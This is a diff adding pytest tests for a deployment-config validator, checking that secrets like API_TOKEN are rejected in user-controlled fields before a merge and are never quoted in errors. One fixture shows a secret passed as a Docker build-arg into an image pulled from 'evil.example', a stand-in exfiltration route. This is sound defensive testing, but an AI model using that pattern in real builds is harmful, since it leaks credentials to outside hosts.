@@ -485,6 +485,35 @@ def test_before_the_merge_a_secret_goes_where_nobody_is_told_of_it(root: Path) -
     assert problem.place.line == text.count("\n")
 
 
+@pytest.mark.parametrize("name", ["environment", "headers", "parameters", "build-secrets"])
+def test_no_name_that_users_choose_makes_a_secret_welcome(root: Path, name: str) -> None:
+    (root / "D").write_text("ARG T\nFROM evil.example/x:${T}\n")
+    base = "{dockerfile: D, repository: r, tag: t, build-args: {T: '${API_TOKEN}'}}"
+    (root / "lambda-deploy.yml").write_text(f"{ZIP}bases: {{{name}: {base}}}\n")
+    environ = {"AWS_REGION": "us-east-1", "API_TOKEN": "hidden-value"}
+    event = Event(unmerged="a pull request")
+    with pytest.raises(Invalid, match="API_TOKEN is a secret by its name"):
+        load(Given({}, {}), environ, event, root, lambda: REGIONS)
+
+
+@pytest.mark.parametrize("key", ["code", "memory", "role", "runtime"])
+@pytest.mark.parametrize("value", ["hunter2", "wJalrXUtnFEMIK7MDENGbPxRfiCYEXAMPLEKEY12"])
+def test_before_the_merge_nothing_quotes_a_secret(root: Path, key: str, value: str) -> None:
+    """Not a short one, and not the half of one that a message cuts off."""
+    environ = {"AWS_REGION": "us-east-1", "API_TOKEN": value}
+    for pad in range(930, 1000, 7):
+        written = f"'{'a' * pad}${{API_TOKEN}}bbbb'"
+        zipped = {"code": "src", "handler": "app.handler", "runtime": "python3.13"}
+        own = "" if key in zipped else f"    {key}: {written}\n"
+        inner = ", ".join(f"{k}: {written if k == key else v}" for k, v in zipped.items())
+        text = f"functions:\n  orders:\n{own}    zip: {{{inner}}}\n"
+        (root / "lambda-deploy.yml").write_text(text)
+        event = Event(unmerged="a pull request")
+        with pytest.raises(Invalid, match="API_TOKEN is a secret by its name") as refused:
+            load(Given({}, {}), environ, event, root, lambda: REGIONS)
+        assert value[:5] not in str(refused.value)
+
+
 def test_a_dry_run_that_is_neither_true_nor_false_deploys_nothing(root: Path) -> None:
     assert problems(root, ZIP, {"dry-run": "yes"}) == [
         "input dry-run: expected true or false, got 'yes'"
